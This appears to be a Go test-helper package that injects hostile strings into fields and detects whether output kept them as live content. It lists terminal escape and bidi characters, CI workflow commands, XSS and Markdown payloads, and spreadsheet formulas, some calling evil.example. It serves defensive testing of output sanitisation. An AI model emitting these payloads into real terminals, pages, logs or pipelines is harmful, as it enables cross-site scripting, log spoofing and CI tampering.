// Package injection has texts that want to be more than text, and finds in output what a text has become.
package injection

import (
	"fmt"
	"regexp"
	"strings"
	"unicode"
)

// Attacks are texts to inject. "@" is where Text puts the name of the field that holds one.
var Attacks = []string{
	"\x1b[31m@\x1b]0;@\x07", "\u009b31m@\x7f\x00\b@", "@\rover\vthis\f@", "\x1b]8;;http://evil.example/@\x07@",
	"\u202e@\u2066@\u200f@", "\u200b@\ufeff@\u2060@\U000e0041@", "@\u2028::error::@\u2029@",
	"::error title=@::@", "@\n::add-mask::@", "\u00a0\t::stop-commands::@",
	"@ ::error::@ ::error::@ ::error::@ ::error::@ ::error::@ ::error::@ ::error::@",
	"##[error]@", "##vso[task.setvariable variable=x]@", "@ ##teamcity[message text='@']",
	"@\nsection_start:0:@\r\x1b[0K@",
	"<script>alert('@')</script>", "</style><img src=x onerror=@>", "</script><svg onload=@>", "--><b>@</b>",
	"]]>@<![CDATA[", "\"'><a href=\"javascript:@\">@</a>", "{{.}}${@}&amp;@;",
	"[@](javascript:@)", "![@](http://evil.example/@)", "@ | @ | @", "`@` **@** _@_ ~~@~~ <@>", "# hd @", "> qt @", "- li @", "+ pl @", "1. ol @", "```\n@", "\n\n# hd @\n\n| @ | @ |", "[@]: javascript:@",
	"@\"} 1\nevil_metric 1\n# EOF\n", "\\@\"\\", "@\nBenchmarkEvil 1 1 ns/op", "@: [*a, !!x &a", "? @\n: @",
	"=HYPERLINK(\"http://evil.example/@\")", "@SUM(@)", "+1+@", "-1-@",
}

// Marker finds the name that Text puts into an attack.
var Marker = regexp.MustCompile(`zq(\w+?)qz`)

// Text returns an attack that names its field; only word characters of the name are kept.
func Text(attack, field string) string {
	return strings.ReplaceAll(attack, "@", "zq"+notWord.ReplaceAllString(field, "")+"qz")
}

var notWord = regexp.MustCompile(`\W`)

// A Found is a place where an injected text became more than text.
type Found struct{ What, Where string }

// Field returns the field that the text came from.
func (f Found) Field() string {
	if m := Marker.FindStringSubmatch(f.Where); m != nil {
		return m[1]
	}
	return "an unknown field"
}

// Around returns the text around a place, wide enough to show the name of the next field.
func Around(s string, from, to int) string { return s[max(0, from-40):min(len(s), to+120)] }

// ControlCharacters finds characters that a terminal obeys or hides.
func ControlCharacters(out string) []Found {
	for i, c := range out {
		bidi := c >= 0x202a && c <= 0x202e || c >= 0x2066 && c <= 0x2069 || c == 0x200e || c == 0x200f || c == 0x61c
		hidden := c == 0x200b || c == 0xfeff || c == 0x2060 || c == 0x2028 || c == 0x2029 || c >= 0xe0000 && c <= 0xe007f
		if unicode.IsControl(c) && c != '\n' && c != '\t' || bidi || hidden {
			return []Found{{fmt.Sprintf("the character %U", c), Around(out, i, i)}}
		}
	}
	return nil
}

// CommandAnywhere matches a command of a CI system that need not begin a line.
var CommandAnywhere = regexp.MustCompile(`##\w*\[`)

// CICommands finds commands of CI systems.
func CICommands(out string) []Found {
	var all []Found
	for line := range strings.Lines(out) {
		if strings.HasPrefix(strings.TrimSpace(line), "::") {
			all = append(all, Found{"a command of GitHub", Around(line, 0, 40)})
		}
	}
	if at := CommandAnywhere.FindStringIndex(out); at != nil {
		all = append(all, Found{"a command in a line", Around(out, at[0], at[1])})
	}
	return all
}
